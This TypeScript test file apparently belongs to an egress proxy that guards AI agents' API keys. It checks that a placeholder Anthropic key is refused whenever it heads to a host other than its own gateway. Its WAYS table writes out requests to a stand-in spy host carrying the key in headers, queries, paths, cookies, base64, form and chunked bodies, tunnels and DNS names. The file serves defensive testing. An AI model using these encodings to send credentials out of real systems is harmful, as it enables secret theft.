import assert from 'node:assert/strict';
import test from 'node:test';
import type { Gateway } from '../../../src/policy/table.ts';
import { GATEWAY } from '../../helpers/gateway-stage.ts';
import { answer, type Host, ProxyStage, settles } from '../../helpers/proxy-stage.ts';

const PLACEHOLDER = 'sk-ant-api03-agentspawn0123456789abcdef0123456789abcdef01234567';
/** Of the same shape, and nobody's. */
const OTHER = 'sk-ant-api03-agentspawn7654321000000000000000000000000000000000';
const ANTHROPIC: Gateway = { ...GATEWAY, placeholder: PLACEHOLDER };

/** Each way in which a client sends a key, as one request. */
const WAYS: Readonly<Record<string, (key: string) => string>> = {
  header: (key) => get('/', `x-api-key: ${key}`),
  'name of a header': (key) => get('/', `${key}: 1`),
  query: (key) => get(`/?key=${key}`),
  'escaped query': (key) => get(`/?key=${key.replaceAll('-', '%2D')}`),
  path: (key) => get(`/${key}/x`),
  Bearer: (key) => get('/', `Authorization: Bearer ${key}`),
  Basic: (key) => get('/', `Authorization: Basic ${Buffer.from(`x:${key}`).toString('base64')}`),
  cookie: (key) => get('/', `Cookie: a=1; token=${key}`),
  'base64 in a header': (key) => get('/', `X-Data: ${Buffer.from(`{"k":"${key}"}`).toString('base64url')}`),
  body: (key) => post(`{"key":"${key}"}`),
  'base64 in a body': (key) => post(Buffer.from(`..${key}`).toString('base64')),
  'form in a body': (key) => post(`key=${encodeURIComponent(key)}`),
  'chunked body': (key) => chunked(`key=${key}&more=1`, 5),
  'chunks of one byte': (key) => chunked(key, 1),
};

function get(path: string, ...fields: readonly string[]): string {
  return request(`GET http://spy.test${path}`, fields, '');
}

function post(body: string): string {
  return request('POST http://spy.test/collect', [`Content-Length: ${body.length}`], body);
}

function chunked(body: string, size: number): string {
  const chunks = body.match(new RegExp(`.{1,${size}}`, 'gs')) ?? [];
  const text = chunks.map((chunk) => `${chunk.length.toString(16)}\r\n${chunk}\r\n`).join('');
  return request('POST http://spy.test/collect', ['Transfer-Encoding: chunked'], `${text}0\r\n\r\n`);
}

function request(line: string, fields: readonly string[], body: string): string {
  return [`${line} HTTP/1.1`, 'Host: spy.test', 'Connection: close', ...fields, '', body].join('\r\n');
}

/** Everything that a host heard of a placeholder, however it is written. */
function leaked(host: Host): boolean {
  return host.heard.some((text) => {
    const contents = text.replace(/\r\n[0-9a-f]+\r\n/g, '');
    return [contents, text, decodeURIComponent(contents.replaceAll('%', '%25'))].some((one) =>
      one.includes('agentspawn'),
    );
  });
}

async function openStage(): Promise<{ readonly proxy: ProxyStage; readonly spy: Host } & AsyncDisposable> {
  const proxy = await ProxyStage.open();
  proxy.name('spy.test', '11.0.0.5');
  const spy = await proxy.host('11.0.0.5:80', (heard, socket) => {
    if (/\r\n\r\n$|0\r\n\r\n|[^\n]$/.test(heard)) socket.write(answer('thanks'));
  });
  await proxy.agent('a', { allow: ['spy.test'], gateways: [ANTHROPIC] });
  return { proxy, spy, [Symbol.asyncDispose]: () => proxy[Symbol.asyncDispose]() };
}

for (const [way, write] of Object.entries(WAYS)) {
  test(`a placeholder does not get to another host by ${way}, and a text like it does`, async () => {
    await using stage = await openStage();
    const { proxy, spy } = stage;
    const refused = await proxy.ask('a', write(PLACEHOLDER));
    assert.match(refused, /^HTTP\/1\.1 403 Forbidden\r\n[\s\S]*x-agent-spawn-reason: egress\.placeholder\r\n/);
    assert.match(refused, /holds the placeholder of a key that is for \/anthropic\./);
    assert.equal(leaked(spy), false, JSON.stringify(spy.heard));
    assert.match(await proxy.ask('a', write(OTHER)), /^HTTP\/1\.1 200 OK\r\n/);
    await settles(() => spy.heard.length > 0, 'the other request');
    const reasons = proxy.decisions('a').map((line) => line.split(' ')[1]);
    assert.deepEqual(reasons.filter((reason) => reason === 'egress.placeholder').length, 1);
    assert.ok(!JSON.stringify(proxy.audit('a')).includes(PLACEHOLDER));
    assert.ok(!JSON.stringify(proxy.agents.summary('a')).includes(PLACEHOLDER));
  });
}

test('a placeholder does not get to another host within a tunnel that carries HTTP', async () => {
  await using stage = await openStage();
  const { proxy } = stage;
  proxy.name('quiet.test', '11.0.0.6');
  const spy = await proxy.host('11.0.0.6:80', () => undefined);
  await proxy.agent('a', { allow: ['quiet.test'], gateways: [ANTHROPIC] });
  const client = proxy.client('a');
  client.send('CONNECT quiet.test:80 HTTP/1.1\r\nHost: quiet.test:80\r\n\r\n');
  await client.until('200 Connection established\r\n\r\n');
  const body = `before ${PLACEHOLDER}`;
  const head = `POST / HTTP/1.1\r\nHost: quiet.test\r\nContent-Length: ${body.length}\r\n\r\n`;
  client.send(head + body.slice(0, 40));
  await settles(() => spy.heard[0]?.endsWith('before ') === true, 'what comes before it');
  client.send(body.slice(40));
  assert.match(await client.end(), /egress\.placeholder/);
  assert.equal(leaked(spy), false, JSON.stringify(spy.heard));
});

test('a name that holds a placeholder is not even looked up, and does not stand in the audit', async () => {
  await using proxy = await ProxyStage.open();
  await proxy.agent('a', { allow: ['*'], gateways: [ANTHROPIC] });
  const host = `${PLACEHOLDER}.spy.test`;
  const text = await proxy.ask('a', `GET http://${host}/ HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
  assert.match(text, /egress\.placeholder/);
  assert.deepEqual([proxy.lookups, proxy.dials], [[], []]);
  assert.ok(!JSON.stringify([proxy.audit('a'), proxy.agents.summary('a')]).includes(PLACEHOLDER));
});

test('a placeholder passes to the server that its own gateway leads to', async () => {
  await using proxy = await ProxyStage.open();
  const base = { scheme: 'http', host: '10.0.0.5', port: 11_434, path: '/v1' } as const;
  const ollama: Gateway = { ...ANTHROPIC, provider: 'ollama', mount: '/ollama/v1', base };
  const host = await proxy.host('10.0.0.5:11434', (_, socket) => socket.write(answer('hello')));
  await proxy.agent('a', { allow: [{ host: '10.0.0.5', ports: [11_434] }], gateways: [ollama] });
  const text = await proxy.ask(
    'a',
    `GET http://10.0.0.5:11434/v1/models HTTP/1.1\r\nHost: 10.0.0.5:11434\r\nConnection: close\r\nX-Key: ${PLACEHOLDER}\r\n\r\n`,
  );
  assert.match(text, /^HTTP\/1\.1 200 OK\r\n/);
  assert.equal(host.heard.length, 1);
});

test('a real key that somebody puts into a path does not stand in the audit', async () => {
  await using proxy = await ProxyStage.open();
  const key = 'sk-ant-api03-real-key-of-somebody';
  await proxy.agent('a', { gateways: [{ ...ANTHROPIC, key }] });
  await proxy.ask('a', get(`/files/${key}/x`));
  const [refused] = proxy.audit('a').filter(({ kind }) => kind === 'decision');
  assert.equal(refused?.['path'], `/files/${'*'.repeat(key.length)}/x`);
});
